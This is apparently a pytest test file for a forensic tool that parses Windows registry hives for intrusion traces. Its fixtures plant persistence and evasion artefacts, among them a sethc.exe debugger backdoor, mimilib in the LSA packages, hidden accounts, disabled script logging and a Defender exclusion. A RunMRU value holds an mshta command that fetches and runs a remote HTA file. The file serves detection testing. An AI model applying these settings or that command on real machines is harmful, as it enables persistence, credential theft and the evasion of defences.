"""Registry hives: what starts by itself, tools that ran, accounts that are hidden, and hostile bytes."""

from __future__ import annotations

import codecs
import random
import struct

import pytest

from firstbell.drill.intrusion.hives import Value, make_tree, write_hive
from firstbell.investigate.hunts.readers.found import FoundRecords
from firstbell.investigate.hunts.readers.hive import read_hive
from tests.investigate.hunts.made import MadeHost, signs_of

RUN = r"Microsoft\Windows\CurrentVersion\Run"
NT = r"Microsoft\Windows NT\CurrentVersion"
CONTROL = r"ControlSet001\Control"
SERVICES = r"ControlSet001\Services"
CONFIG = "/C/Windows/System32/config"


def read(values: dict[str, dict[str, Value]], path: str = "/x/HIVE") -> list[FoundRecords]:
    """What a hive of these values says."""
    return list(read_hive(write_hive(make_tree(values)), path, {}))


def starts(found: list[FoundRecords]) -> list[tuple[str, str]]:
    """(key, command) of what starts by itself."""
    return [
        (one.item.fields["Key"], one.item.fields["Command"])
        for one in found
        if one.item is not None and one.item.kind == "start"
    ]


def test_what_starts_by_itself_is_told_and_what_every_windows_has_is_not() -> None:
    found = read(
        {
            RUN: {"Upd": r"C:\Users\Public\u.exe"},
            rf"{NT}\Winlogon": {"Shell": "explorer.exe", "Userinit": r"C:\Windows\system32\userinit.exe,"},
            rf"{NT}\Image File Execution Options\sethc.exe": {"Debugger": "cmd.exe"},
            rf"{NT}\Image File Execution Options\other.exe": {"MitigationOptions": 5},
        }
    )
    assert starts(found) == [
        (rf"{RUN}\Upd", r"C:\Users\Public\u.exe"),
        (rf"{NT}\Image File Execution Options\sethc.exe\Debugger", "cmd.exe"),
    ]
    assert [one.item.fields["Place"] for one in found if one.item] == ["run key", "rdp"]
    assert {one.source for one in found} == {"registry/SOFTWARE"}


def test_the_control_set_that_is_in_use_is_read() -> None:
    found = read(
        {
            "Select": {"Current": 2},
            rf"{SERVICES}\Old": {"ImagePath": "old.exe"},
            r"ControlSet002\Services\Upd": {"ImagePath": r"C:\PerfLogs\u.exe", "Start": 2},
            r"ControlSet002\Services\Dll\Parameters": {"ServiceDll": r"C:\PerfLogs\u.dll"},
            r"ControlSet002\Control\Terminal Server": {"fDenyTSConnections": 0},
            r"ControlSet002\Control\Lsa": {"Security Packages": ["kerberos", "mimilib"]},
        }
    )
    assert ("Services\\Upd", r"C:\PerfLogs\u.exe") in starts(found)
    assert ("Services\\Dll", r"C:\PerfLogs\u.dll") in starts(found)
    assert (r"Control\Terminal Server\fDenyTSConnections", "0") in starts(found)
    assert any("mimilib" in command for _, command in starts(found))
    assert not any("old.exe" in command for _, command in starts(found))


def test_a_user_s_hive_tells_what_ran_and_where_it_went() -> None:
    count = bytearray(72)
    struct.pack_into("<I", count, 4, 3)
    struct.pack_into("<Q", count, 60, 133_444_736_000_000_000)
    explorer = r"Software\Microsoft\Windows\CurrentVersion\Explorer"
    made = MadeHost()
    tree = make_tree(
        {
            rf"{explorer}\UserAssist\{{x}}\Count": {
                codecs.encode(r"C:\Users\bob\AdFind.exe", "rot13"): bytes(count)
            },
            rf"{explorer}\RunMRU": {"a": "mshta http://203.0.113.5/x.hta\\1", "MRUList": "a"},
            r"Software\Microsoft\Terminal Server Client\Servers\fs02": {"UsernameHint": "D\\adm"},
            r"Software\WinRAR\ArcHistory": {"0": r"C:\PerfLogs\d.rar"},
        }
    )
    made.add_night({"/C/Users/bob/NTUSER.DAT": write_hive(tree)})
    result = made.hunt()
    assert signs_of(result) == ["move.rdp", "run.download", "stage.archive", "tool.named"]
    assert {trace.account for trace in result.traces} == {"bob"}


def test_hidden_accounts_and_silenced_logs_are_traces() -> None:
    record = bytearray(80)
    struct.pack_into("<I", record, 0x30, 500)
    users = r"SAM\Domains\Account\Users"
    made = MadeHost()
    made.add_night(
        {
            f"{CONFIG}/SAM": write_hive(
                make_tree({rf"{users}\Names\svc$": {}, rf"{users}\000003E9": {"F": bytes(record)}})
            ),
            f"{CONFIG}/SOFTWARE": write_hive(
                make_tree(
                    {
                        rf"{NT}\Winlogon\SpecialAccounts\UserList": {"itadm": 0},
                        r"Policies\Microsoft\Windows\PowerShell\ScriptBlockLogging": {
                            "EnableScriptBlockLogging": 0
                        },
                        r"Microsoft\Windows Defender\Exclusions\Paths": {"C:\\": 0},
                        rf"{NT}\Schedule\TaskCache\Tree\Upd": {"Id": "{x}"},
                        rf"{NT}\Schedule\TaskCache\Tree\Fine": {"Id": "{y}", "SD": b"12345"},
                    }
                )
            ),
        }
    )
    result = made.hunt()
    assert signs_of(result) == [
        "account.hidden", "account.hidden", "account.hidden", "hide.audit", "hide.defences", "stay.task",
    ]  # fmt: skip


@pytest.mark.long
@pytest.mark.parametrize("seed", range(3))
def test_damaged_hives_cost_themselves_and_the_hunt_goes_on(seed: int) -> None:
    good = write_hive(make_tree({RUN: {f"v{n}": f"c{n}" for n in range(200)}}))
    r = random.Random(seed)
    made = MadeHost()
    files: dict[str, bytes] = {f"{CONFIG}/SOFTWARE": good}
    for number in range(40):
        data = bytearray(good)
        for _ in range(r.randrange(1, 30)):
            data[r.randrange(4096, len(data))] = r.randrange(256)
        files[f"/C/Users/u{number}/NTUSER.DAT"] = bytes(data)
    made.add_night(files)
    result = made.hunt()
    assert result.records >= 200
    assert all(one.code.startswith("hunt.") for one in result.unread)
